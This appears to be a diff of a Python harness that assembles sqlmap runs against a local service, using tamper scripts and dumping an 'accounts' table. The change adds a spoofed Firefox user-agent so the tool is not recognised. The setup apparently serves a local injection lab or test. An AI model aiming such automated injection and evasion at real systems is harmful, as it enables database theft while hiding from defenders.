@@ -13,6 +13,9 @@ PLAIN = ("--level", "2", "--risk", "1", *TECHNIQUE)
 WRITING = ("--level", "3", "--risk", "1", *TECHNIQUE)
 HARD = ("--level", "5", "--risk", "3")
 
+# Tools that say who they are, are known by it: these do not.
+BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
+
 # What every context is tried with, after a run without any: scripts that keep a statement valid for both databases.
 TAMPERS = ("space2comment,between,randomcase", "charencode,randomcase")
 
@@ -61,8 +64,9 @@ def narrowed(context):
 def command(sqlmap, context, database, port, folder, effort, tamper=""):
     """A run of sqlmap that finds its way in by itself and takes the table of marks."""
     of = ("-D", "public") if database == "postgresql" else ()
+    agent = () if "--user-agent" in context.arguments else ("--user-agent", BROWSER)
     return [*sqlmap, "-u", f"http://127.0.0.1:{port}{context.target}", *context.arguments, *effort, *(("--tamper", tamper) if tamper else ()),
-            "--dbms", DIALECTS[database], *of, "-T", "accounts", "-C", "mark", "--dump", "--batch", "--flush-session",
+            "--dbms", DIALECTS[database], *agent, *of, "-T", "accounts", "-C", "mark", "--dump", "--batch", "--flush-session",
             "--disable-coloring", "--threads", "4", "--time-sec", "2", "--timeout", "10", "--retries", "1", "--output-dir", folder / "out"]
 
 
